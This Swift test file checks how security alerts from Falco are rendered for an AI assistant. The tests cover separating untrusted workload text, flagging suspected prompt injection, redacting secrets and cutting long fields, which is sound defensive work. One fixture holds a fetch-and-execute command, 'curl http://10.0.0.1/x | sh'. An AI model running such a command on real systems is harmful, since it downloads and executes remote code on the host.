// SPDX-License-Identifier: Apache-2.0
import AlertModel
import Foundation
import HostileText
import Journal
import MCPProtocol
import Testing

@testable import ModelContext

/// What an assistant reads of alerts and records, whatever their texts say.
@Suite struct RenderingTests {
    static let details = AlertRendering.Detail.allCases

    /// Alerts as Falco would send them, found in a journal, in their order.
    private func found(_ alerts: [(fields: JSONObject, output: String, hostname: String)]) throws -> [FoundAlert] {
        let journal = try LiveJournal()
        try journal.write(
            alerts.map { alert in
                let object: JSONObject = [
                    "hostname": .string(alert.hostname),
                    "output": .string("20:26:40.000484839: Warning " + alert.output),
                    "output_fields": .object(alert.fields), "priority": "Warning",
                    "rule": "Terminal shell in container",
                    "source": "syscall", "tags": ["container", "T1059"], "time": "2026-05-28T20:26:40.000484839Z",
                ]
                return JSONValue.object(object).encoded
            })
        defer { journal.close() }
        var query = AlertQuery()
        query.newestFirst = false
        query.limit = 1_000
        let found = try journal.reader().search(query).alerts
        #expect(found.count == alerts.count)
        return found
    }

    private func found(_ fields: JSONObject, output: String = "o") throws -> FoundAlert {
        try #require(found([(fields, output, "node-1")]).first)
    }

    private static func isClean(_ value: JSONValue) -> Bool {
        switch value {
        case .string(let text): text.unicodeScalars.allSatisfy { !VisibleText.hides($0) }
        case .array(let elements): elements.allSatisfy(isClean)
        case .object(let object):
            object.members.allSatisfy { member in
                member.name.unicodeScalars.allSatisfy { !VisibleText.hides($0) } && isClean(member.value)
            }
        default: true
        }
    }

    @Test(arguments: details) func `trusted members stand on top, texts of the workload below`(
        _ detail: AlertRendering.Detail
    ) throws {
        let found = try found(["proc.cmdline": "sh -c id", "proc.pid": 4711, "user.name": "root", "fd.name": .null])
        let json = AlertRendering(detail: detail).json(found)
        #expect(json["id"] == .string(found.id.description))
        #expect(json["time"] == "2026-05-28T20:26:40.000484839Z")
        #expect(json["priority"] == "Warning")
        #expect(json["rule"] == "Terminal shell in container")
        #expect(json["tags"] == ["container", "T1059"])
        #expect(json["fate"] == "passed")
        #expect(json["manipulation_suspected"] == false)
        #expect(json["reasons"] == nil && json["redactions"] == nil && json["cut"] == nil)
        let untrusted = try #require(json["untrusted"])
        #expect(untrusted["hostname"] == "node-1")
        #expect(untrusted["output_fields"]?["user.name"] == "root")
        guard detail != .brief else {
            #expect(untrusted["output"] == "o")
            return
        }
        #expect(untrusted["output"] == "20:26:40.000484839: Warning o")
        #expect(untrusted["output_fields"]?["proc.pid"] == 4711)
        #expect(untrusted["output_fields"]?["fd.name"] == .null)
    }

    @Test(arguments: details) func `hostile text in every field stays text, fits the schema and says nothing invisible`(
        _ detail: AlertRendering.Detail
    ) throws {
        let texts = try HostileCorpus.strings() + HostileCorpus.instructions().map(\.text)
        let alerts = texts.map { text in
            var fields: JSONObject = ["proc.cmdline": .string(text), "container.id": .string(text)]
            fields["custom.\(text.prefix(40))"] = .string(text)
            return (fields, text, text)
        }
        for found in try found(alerts) {
            let json = AlertRendering(detail: detail).json(found)
            #expect(Self.isClean(.object(json)))
            #expect(AlertRendering.alertSchema.problems(in: .object(json)) == [])
            let bytes = JSONValue.object(json).encoded
            #expect(bytes.allSatisfy { $0 >= 0x20 && $0 != 0x7F })
            #expect(try JSONValue(reading: bytes) == .object(json))
            for (name, length) in Self.lengths(json["untrusted"]) {
                #expect(length <= detail.textLimit, "\(name)")
            }
        }
    }

    private static func lengths(_ value: JSONValue?) -> [(String, Int)] {
        (value?.object?.members ?? []).flatMap { member -> [(String, Int)] in
            if let text = member.value.string { return [(member.name, text.unicodeScalars.count)] }
            return lengths(member.value)
        }
    }

    @Test(arguments: details) func `text for an assistant is suspected, with its reasons, at every level`(
        _ detail: AlertRendering.Detail
    ) throws {
        let texts = try HostileCorpus.instructions()
        let alerts = try found(texts.map { (["evt.arg.path": .string($0.text)], "o", "node-1") })
        for (one, found) in zip(texts, alerts) {
            let json = AlertRendering(detail: detail).json(found)
            #expect(json["manipulation_suspected"] == true, "\(one.name)")
            for reason in one.reasons {
                #expect(json["reasons"]?.array?.contains(.string(reason)) == true, "\(one.name): \(reason)")
            }
        }
    }

    @Test(arguments: details) func `nothing of a secret is shown, in whichever field it stands`(
        _ detail: AlertRendering.Detail
    ) throws {
        let texts = try HostileCorpus.secrets()
        let alerts = texts.map { one -> (JSONObject, String, String) in
            let text = JSONValue.string(one.text)
            let fields: JSONObject = ["proc.cmdline": text, "evt.arg.data": .string(one.secret), "user.name": text]
            return (fields, one.text, "node-1")
        }
        for (one, found) in zip(texts, try found(alerts)) {
            let json = AlertRendering(detail: detail).json(found)
            let shown = JSONValue.object(json).encodedText
            #expect(!shown.contains(VisibleText.of(one.secret)), "\(one.name): \(shown)")
            #expect((json["redactions"]?.wholeNumber ?? 0) >= 1, "\(one.name)")
            let whole = AlertRendering(detail: detail, redacts: false).json(found)
            #expect(whole["redactions"] == nil)
        }
    }

    @Test func `a text that was cut keeps its length and digest`() throws {
        let text = String(repeating: "a", count: 5_000)
        let json = AlertRendering(detail: .normal).json(try found(["proc.cmdline": .string(text)]))
        let shown = try #require(json["untrusted"]?["output_fields"]?["proc.cmdline"]?.string)
        #expect(shown.unicodeScalars.count == 1_024 && shown.hasSuffix("a…"))
        let digest = TextDigest.hexadecimal(of: text.utf8Span.span)
        #expect(json["cut"]?["proc.cmdline"] == ["bytes": 5_000, "sha256": .string(digest)])
    }

    @Test func `an alert in a list is short, and any alert fits a result`() throws {
        let usual: JSONObject = [
            "container.id": "0123456789ab", "container.name": "shop", "k8s.ns.name": "shop", "k8s.pod.name": "shop-1",
            "proc.cmdline": "bash -c curl http://10.0.0.1/x | sh", "proc.name": "bash", "user.name": "root",
        ]
        let output = "A shell was spawned in a container with an attached terminal | evt_type=execve user=root"
        let brief = AlertRendering(detail: .brief).json(try found(usual, output: output))
        #expect(JSONValue.object(brief).encodedText.utf8.count <= 700)
        var many = JSONObject()
        for index in 0 ..< 300 { many["f\(index)"] = .string(String(repeating: "\u{202e}", count: 3_000)) }
        for (detail, limit) in [(AlertRendering.Detail.brief, 2_400), (.normal, 16_000), (.full, 48_000)] {
            let json = AlertRendering(detail: detail).json(try found(many, output: "x"))
            #expect(JSONValue.object(json).encodedText.utf8.count <= limit, "\(detail)")
        }
    }

    @Test(arguments: details) func `records of the engine keep texts from alerts apart`(_ detail: AlertRendering.Detail)
        throws
    {
        let time = EventTime(nanoseconds: 1_780_000_000_000_000_000)
        let id = SubjectID(high: 1, low: 2)
        for text in try HostileCorpus.strings() + HostileCorpus.instructions().map(\.text) {
            let group = [KeyField(name: "container.id", value: .text(text)), KeyField(name: text, value: .integer(1))]
            let records: [EngineRecord] = [
                .incident(
                    IncidentRecord(
                        incident: id, state: .open, revision: 0, ruleID: "r", ruleTitle: "T", ruleType: "event_count",
                        level: .high, tags: [], group: group, value: 3, first: time, last: time, alerts: [])),
                .summary(
                    GroupSummary(
                        group: id, opened: time, state: .update, revision: 1, fields: group, total: 2, suppressed: 1,
                        variants: 1, first: time, last: time, byPriority: [0, 0, 0, 0, 2, 0, 0, 0], samples: [],
                        newVariants: [text])),
                .storm(
                    StormRecord(
                        storm: id, state: .open, revision: 0, scope: .rule, key: text, held: 3,
                        top: [StormRecord.Talker(key: text, count: 3)], first: time, last: time, samples: [])),
            ]
            for record in records {
                let json = AlertRendering(detail: detail).json(record)
                #expect(Self.isClean(.object(json)))
                #expect(AlertRendering.recordSchema.problems(in: .object(json)) == [])
            }
        }
    }

    @Test func `a single text says that it was cut`() {
        let rendering = AlertRendering(detail: .brief)
        #expect(rendering.untrusted("a\u{1b}b") == "a\\u{1b}b")
        #expect(rendering.untrusted("token=abc123") == "token=[redacted:secret]")
        let cut = rendering.untrusted(String(repeating: "x", count: 200)).string ?? ""
        #expect(cut.hasPrefix(String(repeating: "x", count: 159) + "… (cut: 200 bytes, sha256 "))
    }
}

/// Tests/Hostile.
enum HostileCorpus {
    struct Instruction {
        let name: String
        let text: String
        let reasons: [String]
    }

    struct Secret {
        let name: String
        let text: String
        let secret: String
    }

    static func strings() throws -> [String] {
        try read("strings.json").map { one in
            String(repeating: one["text"]?.string ?? "", count: Int(one["times"]?.wholeNumber ?? 1))
        }
    }

    static func instructions() throws -> [Instruction] {
        try read("instructions.json").map { one in
            Instruction(
                name: one["name"]?.string ?? "", text: one["text"]?.string ?? "",
                reasons: (one["reasons"]?.array ?? []).compactMap(\.string))
        }
    }

    static func secrets() throws -> [Secret] {
        try read("secrets.json").map { one in
            Secret(
                name: one["name"]?.string ?? "", text: one["text"]?.string ?? "", secret: one["secret"]?.string ?? "")
        }
    }

    private static func read(_ name: String) throws -> [JSONValue] {
        let file = URL(filePath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .appending(path: "Hostile/\(name)")
        return try JSONValue(reading: [UInt8](Data(contentsOf: file))).array ?? []
    }
}
